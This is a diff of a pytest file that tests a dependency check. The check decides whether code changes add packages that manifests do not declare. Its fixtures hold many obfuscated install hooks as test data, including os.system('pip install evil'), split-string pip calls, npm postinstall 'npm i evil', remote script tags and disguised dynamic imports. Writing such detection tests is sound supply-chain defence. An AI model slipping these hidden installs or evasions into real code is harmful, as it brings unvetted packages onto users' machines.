@@ -1,14 +1,19 @@
 """Packages that manifests declare are read from their text, and no new one can hide in any manifest."""
 
+import sys
+from collections.abc import Iterable, Mapping
 from pathlib import Path
+from typing import cast
 
 import pytest
 
 from tests.proof.trial import Trial, only, quiet
 from trued.model import DependenciesCheck, Grade
-from trued.proof.checks.dependencies import declared_in, is_package_manifest
+from trued.proof.checks.dependencies import declared_by, unread_additions
+from trued.proof.checks.package_manifests import declared_in, is_package_manifest
 from trued.proof.contract import check_hash
 from trued.proof.seal import SealTerms, seal
+from trued.protocols import Workspace
 
 
 @pytest.mark.spec("DAY-9")
@@ -32,7 +37,7 @@ from trued.proof.seal import SealTerms, seal
         (
             "setup.py",
             'from setuptools import setup\nsetup(name="a", install_requires=["b>1"], extras_require={"t":["c"]})',
-            "b c t",
+            "b c",
         ),
         (
             "setup.cfg",
@@ -40,6 +45,27 @@ from trued.proof.seal import SealTerms, seal
             "b c",
         ),
         ("go.mod", "module a\n\nrequire (\n\tgithub.com/x/y v1.2.3\n)\n", "github.com/x/y"),
+        ("Pipfile", "[packages]\na = '*'\n[docs]\nb = {version = '1'}\n[requires]\npython_version = '3.11'\n", "a b"),
+        ("pyproject.toml", "[tool.poetry.dependencies]\na = [{version = '1', python = '<3.9'}]\n", "a"),
+        (
+            "pyproject.toml",
+            "[tool.setuptools]\npackages = ['a', 'a.sub']\n[tool.hatch.build.targets.wheel]\npackages = ['src/a']\n"
+            "[tool.setuptools.dynamic]\ndependencies = {file = ['needs.txt']}\n"
+            "[tool.uv]\nconstraint-dependencies = ['b<2']\n",
+            "file:needs.txt",
+        ),
+        (
+            "package.json",
+            '{"pnpm": {"peerDependencyRules": {"ignoreMissing": ["a"]}, "onlyBuiltDependencies": ["b"]}}',
+            "",
+        ),
+        ("setup.cfg", "[options]\npython_requires = >=3.9\ninstall-requires =\n  b\ntests_require = c\n", "b c"),
+        ("setup.py", "setup(python_requires='>=3.9', install_requires=['b'])\n", "b"),
+        (
+            "go.mod",
+            'module a\nrequire "x.example/y" v1 // why\nrequire (\n\t`x.example/z` v1\n)\n',
+            "x.example/y x.example/z",
+        ),
         ("Cargo.toml", '[package]\nname="a"\n[dependencies]\nserde={version="1", features=["derive"]}\n', "serde"),
     ],
 )
@@ -62,6 +88,7 @@ def test_what_is_installed_or_locked_is_no_manifest() -> None:
 PROJECT = {
     "tiny.py": "import json\n\n\ndef one():\n    return json.loads('1')\n",
     "plugins.py": "import importlib\n\n\ndef load(name):\n    return importlib.import_module(name)\n",
+    "starts.py": "import subprocess as sp\n\n\ndef branch():\n    return sp.run(['git', 'branch'])\n",
     "tools.js": "const fs = require('fs');\n",
     "requirements.txt": "flask==2.0\npyyaml\n-r more.list\n",
     "requirements/base.txt": "flask\n",
@@ -101,10 +128,20 @@ HONEST: dict[str, dict[str, str | None]] = {
         "tools.js": "const fs = require('fs');\n// we require 'evil'\nif (require.main === module) fs.go('require');\n",
     },
     "methods that are called alike": {"tiny.py": f"{CODE}\n\ndef two(model):\n    return model.eval(), ['exec']\n"},
+    "what is called like a starter": {
+        "tiny.py": f"import platform\nimport re\n{CODE}\n\nPLAIN = re.compile('x'), platform.system()\n"
+    },
+    "beside a program that the base starts": {"starts.py": f"{PROJECT['starts.py']}\n\nPIPED = sp.PIPE\n"},
+    "a script for a program of a declared package": {
+        "package.json": PACKAGES.replace(
+            '"overrides"', '"scripts": {"x": "lodash ./tools.js"}, "imports": {"#x": "./tools.js"}, "overrides"'
+        )
+    },
     "what only git reads": {".gitignore": "evil\n"},
     "a new page of its own": {"page.html": "<script src='tools.js'></script>\n", "tools.js": "require('node:os');\n"},
 }
 REFUTED: dict[str, dict[str, str | None]] = {
+    "a list that another one names": {"more.list": "flask\nevil\n"},
     "a list in a folder of lists": {"requirements/base.txt": "flask\nevil\n"},
     "a list under a name": {"setup.py": SETUP.replace("['flask']", "['flask', 'evil']")},
     "the same name, from elsewhere": {"requirements.txt": "flask @ https://x.example/evil.whl\npyyaml\n-r more.list\n"},
@@ -125,7 +162,6 @@ UNREAD: dict[str, dict[str, str | None]] = {
         "Makefile": f"{MAKE}\tpip install -r data/words.json\n",
     },
     "data that a driver installs": {"lists/words.txt": "flask\nevil\n"},
-    "a list that another one names": {"more.list": "flask\nevil\n"},
     "settings of a tool": {"tox.ini": "[testenv]\ndeps = flask\n  evil\n"},
     "an import, and no word of it": {"tiny.py": f"{CODE}\n\nif one(): import evil\n"},
     "an import by its name": {"tiny.py": f"{CODE}\n\n__import__('evil.sub')\n"},
@@ -149,6 +185,23 @@ UNREAD: dict[str, dict[str, str | None]] = {
     "a script's import": {"tools.js": "const fs = require('fs');\nconst x = await import('evil/sub');\n"},
     "an address": {"page.html": "<script src='//cdn.example/evil.js'></script>\n"},
     "another language": {"composer.json": '{"require": {"a/evil": "1"}}\n'},
+    "a program": {"tiny.py": f"import subprocess\n{CODE}\n\nsubprocess.run(['jq', '-n', '1'])\n"},
+    "an installer": {"tiny.py": f"import os\n{CODE}\n\nos.system('pip install evil')\n"},
+    "an installer under another name": {
+        "tiny.py": f"from os import popen as p\n{CODE}\n\np('p' + 'ip install evil')\n"
+    },
+    "a program beside the base's": {"starts.py": f"{PROJECT['starts.py']}\n\nsp.run(['pip', 'install', 'evil'])\n"},
+    "a name for it in the manifest": {
+        "package.json": PACKAGES.replace('"overrides"', '"imports": {"#x": {"node": "evil/sub"}}, "overrides"')
+    },
+    "a library of the system": {"tiny.py": f"import ctypes\n{CODE}\n\nctypes.CDLL('libevil.so')\n"},
+    "code in a text": {"tiny.py": f"import timeit\n{CODE}\n\ntimeit.timeit('import evil')\n"},
+    "a script's own manifest": {"tiny.py": f"# /// script\n# dependencies = ['evil']\n# ///\n{CODE}"},
+    "a script's program": {"tools.js": "const fs = require('fs');\nrequire('child_process').execSync('npm i evil');\n"},
+    "a built-in module by its name": {"tools.js": "const m = process.getBuiltinModule('module');\n"},
+    "what npm runs after an installation": {
+        "package.json": PACKAGES.replace('"overrides"', '"scripts": {"postinstall": "npm i evil"}, "overrides"')
+    },
     "a computed list": {"setup.py": SETUP.replace("['flask']", "[*map(chr, (101,))]")},
 }
 
@@ -181,3 +234,218 @@ async def test_dependencies_that_must_stay_unchanged_are_compared_with_their_ver
 
 def test_the_hash_of_an_older_check_stays_valid() -> None:
     assert DependenciesCheck().model_dump(mode="json") == {"kind": "dependencies"}
+
+
+class Commits:
+    """A base and a head, in memory."""
+
+    def __init__(self, base: Mapping[str, str], head: Mapping[str, str]) -> None:
+        self.texts = {"base": base, "head": head}
+
+    async def blobs(self, commit: str) -> dict[str, str]:
+        return dict(self.texts[commit])
+
+    async def submodules(self, commit: str) -> dict[str, str]:
+        return {}
+
+    async def read_all(self, commit: str, paths: Iterable[str]) -> dict[str, bytes]:
+        return {path: self.texts[commit][path].encode() for path in paths if path in self.texts[commit]}
+
+    async def read(self, commit: str, path: str) -> bytes | None:
+        return (await self.read_all(commit, [path])).get(path)
+
+
+async def read(head: Mapping[str, str | None], base: Mapping[str, str]) -> str:
+    """`proven`, or what lowers it: `declares …` or `unread …`."""
+    whole = {path: text for path, text in {**base, **head}.items() if text is not None}
+    commits = cast(Workspace, Commits(base, whole))
+    changed = [path for path in {**base, **whole} if base.get(path) != whole.get(path)]
+    before, after = await declared_by(commits, "base"), await declared_by(commits, "head")
+    if new := sorted(after.keys() - before.keys()):
+        return f"declares {', '.join(new)}"
+    left = await unread_additions(commits, "base", "head", changed, ((), sys.stdlib_module_names))
+    return f"unread {', '.join(left)}" if left else "proven"
+
+
+BASE = {
+    "app.py": "import os\n",
+    "kit/__init__.py": "",
+    "kit/cli.py": "import importlib\nimport subprocess\n\n\ndef main():\n    subprocess.run(['git', 'status'])\n"
+    "    subprocess.run(['pip', 'install', '-e', '.'])\n",
+    "docs.py": 'import os\n"""\nimport evil\n"""\n',
+    "tests/test_app.py": "import app\n",
+    "pyproject.toml": "[project]\nname = 'a'\nversion = '1'\ndependencies = ['attrs']\n"
+    "[tool.setuptools]\npackages = ['kit']\n[tool.poe.tasks]\nlint = 'python tools/lint.py'\n",
+    "package.json": '{"name": "a", "version": "1", "scripts": {"test": "node --test"}, "dependencies": {"pad": "1"}}',
+    "setup.py": "from setuptools import setup\n\nsetup(name='a', install_requires=['attrs'])\n",
+    "setup.cfg": "[metadata]\nname = a\n[options]\npackages = kit\n",
+    "requirements.txt": "attrs\n",
+    "Pipfile": "[packages]\nattrs = '*'\n",
+    "go.mod": "module a\n\ngo 1.22\n",
+    "index.js": "export const a = 1;\n",
+    "page.html": "<p>\n",
+    "tools/lint.py": "import ast\n",
+    "main.rs": "fn main() { std::process::exit(1); }\n",
+}
+MANIFEST, SCRIPT = BASE["pyproject.toml"], BASE["package.json"]
+READ_WHOLE: dict[str, dict[str, str | None]] = {
+    "own sub-packages": {
+        "pyproject.toml": MANIFEST.replace("['kit']", "['kit', 'kit.sub']"),
+        "setup.cfg": BASE["setup.cfg"].replace("kit", "\n  kit\n  kit.sub"),
+        "kit/sub/__init__.py": "",
+    },
+    "own packages of another build tool": {
+        "pyproject.toml": f"{MANIFEST}[tool.hatch.build.targets.wheel]\npackages = ['src/more']\n",
+        "src/more/__init__.py": "",
+    },
+    "dependencies in a list that was there": {
+        "pyproject.toml": MANIFEST.replace("dependencies = ['attrs']", "dynamic = ['dependencies']")
+        + "[tool.setuptools.dynamic]\ndependencies = {file = ['requirements.txt']}\n"
+    },
+    "a list in two parts": {"requirements.txt": "-r requirements/base.txt\n-e .\n", "requirements/base.txt": "attrs\n"},
+    "another version and other words about the project": {
+        "pyproject.toml": MANIFEST.replace("'1'", "'2'\ndescription = 'evil things'\nrequires-python = '>=3.9'"),
+        "package.json": SCRIPT.replace('"1", "scripts"', '"2", "description": "evil things", "scripts"'),
+        "setup.py": BASE["setup.py"].replace("name='a'", "name='a', version='2', python_requires='>=3.9'"),
+        "setup.cfg": BASE["setup.cfg"].replace("= a", "= a\nversion = 2"),
+    },
+    "an extra of known packages": {
+        "setup.py": BASE["setup.py"].replace("['attrs']", "['attrs'], extras_require={'all': ['attrs']}")
+    },
+    "scripts that start own code": {
+        "pyproject.toml": f"{MANIFEST}[project.scripts]\nkit = 'kit.cli:main'\n",
+        "package.json": SCRIPT.replace('--test"', '--test", "lint": "node tools/lint.js && npm run test"'),
+        "tools/lint.js": "1;\n",
+    },
+    "settings of a tool that loads nothing": {"pyproject.toml": f"{MANIFEST}[tool.ruff.lint]\nselect = ['E501']\n"},
+    "a helper of tests": {"tests/helpers.py": "", "tests/test_more.py": "import helpers\n"},
+    "a new package": {"app.py": "import more\n", "more/__init__.py": ""},
+    "an unused import removed": {"kit/cli.py": BASE["kit/cli.py"].replace("import importlib\n", "")},
+    "a program that the base starts": {"app.py": "import subprocess as sp\n\nsp.run(['git', 'log', '-n', '1'])\n"},
+    "a script's program that the base starts": {
+        "index.js": "import { execFileSync, execSync } from 'node:child_process';\n"
+        "execFileSync('git', ['log', name], {});\nexecSync('git status', {encoding: 'utf8'});\n"
+    },
+    "its own file": {"app.py": "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, 'tools/lint.py'])\n"},
+    "modules by their names": {
+        "app.py": "import importlib\nimport importlib.metadata as data\nimport os\nimport sys\n"
+        "from importlib.resources import files\n\nfrom kit import Kind\n\nJSON = importlib.import_module('json')\n"
+        "V = data.version('a')\nT = files('kit') / 'x.txt', files(__package__)\nHAS = 'attrs' in sys.modules\n"
+        "ME = sys.modules[__name__], os.__file__, getattr(os, 'sep'), getattr(Kind, V.upper())\n\n\n"
+        "class A:\n    def go(self, x):\n        return getattr(self, f'do_{x}')(), self.__dict__\n"
+    },
+    "a name of its own": {"app.py": "entry_points = [1]\nx = list(entry_points)\n"},
+    "a module with another attribute, in a test": {
+        "tests/test_app.py": "import subprocess\n\n\ndef test_a(patch):\n    patch.setattr(subprocess, 'run', print)\n"
+    },
+    "a script": {
+        "index.js": "// see https://x.example/a\nconst found = /a/.exec('b');\n"
+        "const svg = 'http://www.w3.org/2000/svg';\nconst rules = {require: 1, eval: 2};\n"
+    },
+    "compiled code": {"main.rs": 'fn main() { let c = clap::Command::new("a"); }\n'},
+}
+INSTALL = "pip install evil"
+LEFT_UNREAD: dict[str, dict[str, str | None]] = {
+    "a module among tests, called like a package": {"app.py": "import evil\n", "tests/evil.py": ""},
+    "a module beside a test": {"app.py": "import evil\n", "lib/test_x.py": "", "lib/evil.py": ""},
+    "product beside a test": {"lib/app.py": "import evil\n", "lib/test_x.py": "", "lib/evil.py": ""},
+    "a folder that is no package": {"app.py": "import evil\n", "evil/x.py": ""},
+    "quotation marks removed": {"docs.py": "import os\nimport evil\n"},
+    "a list that grows": {
+        "setup.py": "from setuptools import setup\nR = ['attrs']\nR += ['evil']\nsetup(install_requires=R)\n"
+    },
+    "a list that is appended to": {
+        "setup.py": "from setuptools import setup\nR = ['attrs']\nR.append('evil')\nsetup(install_requires=R)\n"
+    },
+    "a setup that installs": {"setup.py": f"import os\nos.system('{INSTALL}')\n{BASE['setup.py']}"},
+    "a setup that fetches": {"setup.py": f"{BASE['setup.py']}\nsetup.dist.fetch_build_eggs(['evil'])\n"},
+    "a tool in go.mod": {"go.mod": f"{BASE['go.mod']}\ntool x.example/evil/cmd\n"},
+    "a script that installs": {"package.json": SCRIPT.replace('--test"', '--test", "postinstall": "npx -y evil"')},
+    "a name for a package": {"package.json": SCRIPT.replace('"scripts"', '"imports": {"#a": "evil"}, "scripts"')},
+    "a task that installs": {"pyproject.toml": MANIFEST.replace("tools/lint.py", "-m pip install evil")},
+    "a task of several lines": {"pyproject.toml": f'{MANIFEST}setup = """\n# set up\n{INSTALL}\n"""\n'},
+    "dependencies of another tool": {"pyproject.toml": f"{MANIFEST}[tool.tox.env_run_base]\ndeps = ['evil']\n"},
+    "a table of another tool": {"pyproject.toml": f"{MANIFEST}[tool.more.deps]\nevil = '*'\n"},
+    "a hook without settings": {"pyproject.toml": f"{MANIFEST}[tool.hatch.metadata.hooks.custom]\n"},
+    "a script of another package": {"pyproject.toml": f"{MANIFEST}[project.scripts]\nx = 'evil.cli:main'\n"},
+    "an extra": {"requirements.txt": "attrs[evil]\n"},
+    "an extra in a table": {"Pipfile": "[packages]\nattrs = {version = '*', extras = ['evil']}\n"},
+    "an address in another spelling": {"page.html": "<script src='https:&#47;&#47;cdn.example/x.js'></script>\n"},
+    "an address with backslashes": {"page.html": "<script src='\\\\cdn.example\\x.js'></script>\n"},
+    "an address on two lines": {"page.html": "<script src='/\n/cdn.example/x.js'></script>\n"},
+    "a script element": {"index.js": "document.head.append(Object.assign(x, {src: 'https://cdn.example/x.js'}));\n"},
+    "a shell that installs": {"app.py": f"import os\n\nos.system('{INSTALL}')\n"},
+    "an installer": {"app.py": "import subprocess, sys\n\nsubprocess.run([sys.executable, '-m', 'pip', 'evil'])\n"},
+    "a known program that installs": {"app.py": "from subprocess import run as f\n\nf(['pip', 'install', 'evil'])\n"},
+    "a program that is computed": {"app.py": "import subprocess\n\nsubprocess.run([*map(chr, (101,))])\n"},
+    "a program in place of this one": {"app.py": "import os\n\nos.execvp('pip', ['pip', 'install', 'evil'])\n"},
+    "a name that comes with all others": {"app.py": f"from kit import *\n\nos.system('{INSTALL}')\n"},
+    "arguments that a script computes": {
+        "index.js": "import {execFileSync} from 'child_process';\nexecFileSync('pip', words);\n"
+    },
+    "a program passed on": {"app.py": "import subprocess\n\ngo = subprocess.run\n"},
+    "a program of the event loop": {"app.py": f"import asyncio\n\nx = asyncio.create_subprocess_shell('{INSTALL}')\n"},
+    "another module's os": {"app.py": f"import shutil\n\nshutil.os.system('{INSTALL}')\n"},
+    "an attribute that starts programs": {"app.py": f"import os\n\ngetattr(os, 'system')('{INSTALL}')\n"},
+    "git from elsewhere": {
+        "app.py": "import subprocess\n\nsubprocess.run(['git', 'clone', 'https://x.example/evil'])\n"
+    },
+    "a script's program": {"index.js": "import {execSync} from 'node:child_process';\nexecSync('npm i evil');\n"},
+    "a script's program by another name": {
+        "index.js": "import * as cp from 'child_process';\ncp['exec' + 'Sync']('x');\n"
+    },
+    "compiled code that installs": {
+        "main.rs": 'fn main() { std::process::Command::new("cargo").arg("x").status(); }\n'
+    },
+    "compiled code by another name": {"main.go": 'import x "os/exec"\n\nfunc main() { x.Command("pip").Run() }\n'},
+    "a module by another name": {"app.py": "import importlib as i\n\ngetattr(i, 'import_' + 'module')('ev' + 'il')\n"},
+    "every module": {"app.py": "import sys\n\ngetattr(sys.modules['import' + 'lib'], 'x' + '')('evil')\n"},
+    "built-ins by another name": {"app.py": "import builtins as b\n\nb.exec('import evil')\n"},
+    "another module's importlib": {
+        "app.py": "import logging.config\n\nx = getattr(logging.config.importlib, 'a' + 'b')\n"
+    },
+    "another module passed on": {"app.py": "import logging.config\n\nx = vars(logging.config)['import' + 'lib']\n"},
+    "an entry point": {
+        "app.py": "from importlib.metadata import EntryPoint\n\nx = EntryPoint('x', 'evil', 'g').load()\n"
+    },
+    "files of a package": {"app.py": "from importlib.resources import files\n\nx = files('evil')\n"},
+    "a finder": {"app.py": "import sys\n\nx = sys.meta_path[-1].find_spec('evil', None).loader\n"},
+    "a type as text": {"app.py": "def f(x: '__imp' \"ort__('evil')\"): ...\n"},
+    "a namespace": {"app.py": "x = globals()['__buil' + 'tins__']\n"},
+    "a function's namespace": {"app.py": "import os\n\nx = os.walk.__globals__\n"},
+    "a loader that another module imports": {"app.py": "from kit import import_module\n\nimport_module('ev' + 'il')\n"},
+    "a loader applied": {"app.py": "from kit import apply\n\napply(__import__, 'evil')\n"},
+    "a comment before the name": {"index.js": "import pad from /**/ 'evil';\n"},
+    "a script's loader passed on": {"index.js": "const load = module.require; load('ev' + 'il');\n"},
+    "a script's loader by its name": {"index.js": "module['require']('evil');\n"},
+    "a script's text": {"index.js": "(0, eval)('x');\n"},
+    "a script's function": {"index.js": "Function('return 1')();\n"},
+}
+DECLARED: dict[str, dict[str, str | None]] = {
+    "a table of a Pipfile": {"Pipfile": f"{BASE['Pipfile']}[docs]\nevil = '*'\n"},
+    "a Pipfile": {"Pipfile": f"{BASE['Pipfile']}evil = '*'\n"},
+    "a list that the manifest names": {
+        "pyproject.toml": f"{MANIFEST}[tool.setuptools.dynamic]\ndependencies = {{file = 'words'}}\n",
+        "words": "evil\n",
+    },
+    "a list that a list names": {"requirements.txt": "attrs\n-r words\n", "words": "evil\n"},
+    "a list that is missing": {"requirements.txt": "attrs\n-r ../evil.txt\n"},
+}
+
+
+@pytest.mark.spec("DAY-9", "LAW-11")
+@pytest.mark.parametrize("name", READ_WHOLE)
+async def test_an_honest_change_is_read_whole(name: str) -> None:
+    assert await read(READ_WHOLE[name], BASE) == "proven"
+
+
+@pytest.mark.spec("DAY-9", "LAW-11")
+@pytest.mark.parametrize("name", LEFT_UNREAD)
+async def test_what_may_bring_a_package_is_unread_and_refutes_nothing(name: str) -> None:
+    assert (await read(LEFT_UNREAD[name], BASE)).startswith("unread ")
+
+
+@pytest.mark.spec("DAY-9", "LAW-11")
+@pytest.mark.parametrize("name", DECLARED)
+async def test_a_package_is_found_wherever_manifests_declare_it(name: str) -> None:
+    assert (await read(DECLARED[name], BASE)).startswith("declares ")
